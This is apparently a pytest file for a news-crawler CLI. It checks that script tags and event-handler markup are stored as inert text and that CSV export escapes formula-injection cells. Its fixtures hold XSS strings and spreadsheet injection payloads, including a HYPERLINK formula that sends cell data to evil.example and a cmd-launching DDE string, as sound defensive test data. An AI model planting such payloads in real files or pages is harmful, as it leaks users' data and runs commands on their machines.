"""Untrusted content stays inert: markup in titles and text is stored as text, and
``rassegna export --format csv`` neutralises cells a spreadsheet would run as a formula.

End to end: a real crawl of pages whose headlines and paragraphs carry ``<script>``,
``onerror=`` and ``javascript:`` (as text, and as real markup), and headlines that start with
``=``, ``+``, ``-`` and ``@``; then the real CLI export.
"""

from __future__ import annotations

import csv
import html
import io
import json
import sqlite3
from pathlib import Path

import pytest

from tests.helpers import crawl, rassegna, write_sources
from tests.loopback import LoopbackSite
from tests.sitekit import article_page, index_page, paragraphs

pytestmark = pytest.mark.slow

MARKUP_TITLE = '<script>alert("t")</script> Council <img src=x onerror=alert(1)> vote'
LITERALS = ['<script>alert(2)</script>', '<img src=x onerror=alert(3)>',
            '<a href="javascript:alert(4)">click</a>']
FORMULA_TITLES = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+SUM(1+1) budget",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1) council",
]
# Real markup in the body: must not reach the stored text.
REAL_MARKUP = ("<script>alert('real')</script>"
               '<p><a href="javascript:alert(5)">a real link</a> and '
               '<img src="x" onerror="alert(6)"> an image.</p>')


def _pages() -> dict[str, str]:
    text = [f"{p} Quoted code: {html.escape(lit)}." for p, lit in zip(paragraphs(1), LITERALS, strict=False)]
    text += paragraphs(1)[len(LITERALS):]
    pages = {"/markup": article_page(MARKUP_TITLE, text).replace("</article>",
                                                                  REAL_MARKUP + "</article>")}
    for i, title in enumerate(FORMULA_TITLES):
        pages[f"/formula-{i}"] = article_page(title, paragraphs(10 + i))
    return pages


def test_markup_is_stored_as_text_and_csv_export_is_neutralised(tmp_path: Path) -> None:
    pages = _pages()
    with LoopbackSite() as site:
        site.add("/", index_page(list(pages)))
        for path, body in pages.items():
            site.add(path, body)
        sources = write_sources(tmp_path / "sources.toml",
                                f'[[source]]\nname = "site"\nstart_urls = ["{site.base}/"]\n')
        db = tmp_path / "a.db"
        result = crawl(db, "--sources", str(sources))
    assert result.returncode == 0, result.stderr

    conn = sqlite3.connect(db)
    stored = {url: (title, text) for url, title, text in
              conn.execute("select url, title, text from articles")}
    conn.close()
    assert len(stored) == 1 + len(FORMULA_TITLES), sorted(stored)

    # Stored as text: the headline keeps its angle brackets literally, as the page showed them.
    title, text = stored[site.base + "/markup"]
    assert title == MARKUP_TITLE
    for literal in LITERALS:
        assert literal in text, literal
    # Real markup is not text: script bodies and attribute values are gone.
    assert "alert('real')" not in text
    assert "alert(5)" not in text and "alert(6)" not in text
    for i, formula in enumerate(FORMULA_TITLES):
        assert stored[f"{site.base}/formula-{i}"][0] == formula

    # CSV export through the CLI: no cell starts with = + - @ any more.
    out = tmp_path / "export.csv"
    exported = rassegna("export", "--db", str(db), "--format", "csv", "-o", str(out))
    assert exported.returncode == 0, exported.stderr
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert len(rows) == len(stored)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    titles = {row["url"]: row["title"] for row in rows}
    for i, formula in enumerate(FORMULA_TITLES):
        assert titles[f"{site.base}/formula-{i}"] == "'" + formula
    assert titles[site.base + "/markup"] == MARKUP_TITLE  # not a formula: left as it is

    # JSONL is data, not a spreadsheet: titles come out exactly as stored.
    jsonl = rassegna("export", "--db", str(db), "--format", "jsonl")
    assert jsonl.returncode == 0, jsonl.stderr
    exported_titles = {json.loads(line)["title"] for line in jsonl.stdout.splitlines()}
    assert exported_titles == {MARKUP_TITLE, *FORMULA_TITLES}
